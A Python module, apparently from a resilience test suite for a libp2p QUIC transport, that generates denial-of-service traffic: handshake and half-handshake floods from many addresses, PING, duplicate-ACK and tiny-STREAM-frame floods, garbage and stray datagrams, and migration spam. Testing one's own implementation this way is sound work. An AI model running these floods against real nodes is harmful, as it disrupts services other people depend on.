"""Attacks by QUIC."""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
from collections.abc import Callable
from typing import Any

from aioquic.tls import Epoch

from libp2p import Multiaddr
from libp2p.identity import PrivateKey
from libp2p.multiaddr import host_port
from libp2p.transports.quic import QuicConfig
from libp2p.transports.quic.credentials import Credentials
from libp2p.transports.quic.engine import Engine

from .bare import MANY, come_from, connect, patient, source

_BATCH = 32


def target_of(addr: str) -> tuple[str, int]:
    """The socket address."""
    target = host_port(Multiaddr(addr.partition("/quic-v1")[0]))
    return target.host, target.port


async def handshakes(addr: str, amount: int) -> None:
    """Whole handshakes from sixteen addresses."""
    come_from(*MANY[:16])
    left, key = iter(range(amount)), PrivateKey.generate()

    async def one_after_the_other() -> None:
        for _ in left:
            with contextlib.suppress(Exception):
                (await connect(addr, key)).abort()

    await asyncio.gather(*(one_after_the_other() for _ in range(16)))


async def halves(addr: str, amount: int) -> None:
    """Handshakes from sixteen addresses that begin, with a proof of the address where it is asked for, and no more."""
    to, loop = target_of(addr), asyncio.get_running_loop()
    credentials, engines = Credentials(PrivateKey.generate(), QuicConfig()).for_dialer, {}
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]

    def readable(sock: socket.socket) -> None:
        with contextlib.suppress(BlockingIOError):
            while True:
                answer = sock.recv(65_535)
                engine = engines.get(answer[6:14])
                if engine is not None and answer[0] & 0xF0 == 0xF0:  # Retry
                    engine.receive(answer, len(answer), to, loop.time())
                    _send(sock, engine.datagrams(loop.time()))

    for sock, where in zip(sockets, MANY, strict=False):
        sock.setblocking(False)
        sock.bind((where, 0))
        loop.add_reader(sock, readable, sock)
    for n in range(amount):
        engine: Any = Engine(credentials, QuicConfig(), expected_peer=None, reset_token=lambda _: bytes(16))
        engine.connect(to, loop.time())
        engines[bytes(engine.host_cid)] = engine
        _send(sockets[n % 16], engine.datagrams(loop.time()))
        await asyncio.sleep(0)
    await asyncio.sleep(1)


def _send(sock: socket.socket, datagrams: list[tuple[bytes, Any]]) -> None:
    with contextlib.suppress(BlockingIOError):
        for data, to in datagrams:
            sock.sendto(data, to)


async def pings(addr: str, amount: int) -> None:
    """Packets that hold PING frames."""
    await _packets(addr, amount, lambda _: b"\x01" * 4 + bytes(4))


async def acks(addr: str, amount: int) -> None:
    """Packets that acknowledge the same again and again."""
    await _packets(addr, amount, lambda _: b"\x02\0\0\0\0" + bytes(4))


async def tiny(addr: str, amount: int) -> None:
    """Packets full of STREAM frames of a byte each."""
    begin = b"\x13/multistream/1.0.0\n\x0a/unread/1\n"
    at: dict[Any, int] = {}

    def frames(connection: Any) -> bytes:
        packet, offset = b"", at.get(connection, 0)
        while len(packet) < 1000:
            byte = begin[offset : offset + 1] or b"x"
            packet += b"\x0e\0" + (0x80000000 | offset).to_bytes(4, "big") + b"\x01" + byte
            offset += 1
        at[connection] = offset
        return packet

    await _packets(addr, amount, frames)


async def _packets(addr: str, amount: int, frames: Callable[[Any], bytes]) -> None:
    """Send packets with such frames on a connection; one that was thrown out comes again."""
    while amount > 0:
        connection = await patient(addr)
        engine, endpoint = connection._engine, connection._driver._endpoint
        while amount > 0 and connection.close_reason is None:
            batch = [(_seal(engine, frames(connection)), connection._driver.addr) for _ in range(_BATCH)]
            endpoint.send(batch, None)
            amount -= _BATCH
            await asyncio.sleep(0)
        connection.abort()


def _seal(engine: Any, frames: bytes) -> bytes:
    number, engine._packet_number = engine._packet_number, engine._packet_number + 1
    head = b"\x43" + engine._peer_cid.cid + number.to_bytes(4, "big")
    sealed: bytes = engine._cryptos[Epoch.ONE_RTT].encrypt_packet(head, frames, number)
    return sealed


async def strays(addr: str, amount: int) -> None:
    """Packets of connections that there are not."""
    await _datagrams(addr, amount, lambda: b"\x40" + os.urandom(39))


async def garbage(addr: str, amount: int) -> None:
    """What looks like first packets, and can't be read."""
    await _datagrams(addr, amount, lambda: b"\xc3\0\0\0\x01\x08" + os.urandom(8) + b"\x08" + os.urandom(1185))


async def _datagrams(addr: str, amount: int, make: Callable[[], bytes]) -> None:
    to = target_of(addr)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.bind((source(), 0))
    for _ in range(0, amount, _BATCH):
        _send(sock, [(make(), to) for _ in range(_BATCH)])
        await asyncio.sleep(0)


async def moves(addr: str, amount: int) -> None:
    """A connection whose packets come from ever new ports."""
    to, left = target_of(addr), amount
    while left > 0:
        connection = await patient(addr)
        while left > 0 and connection.close_reason is None:
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.setblocking(False)
            sock.bind((source(), 0))
            _send(sock, [(_seal(connection._engine, b"\x01" + bytes(8)), to)])
            sock.close()
            left -= 1
            await asyncio.sleep(0)
        connection.abort()
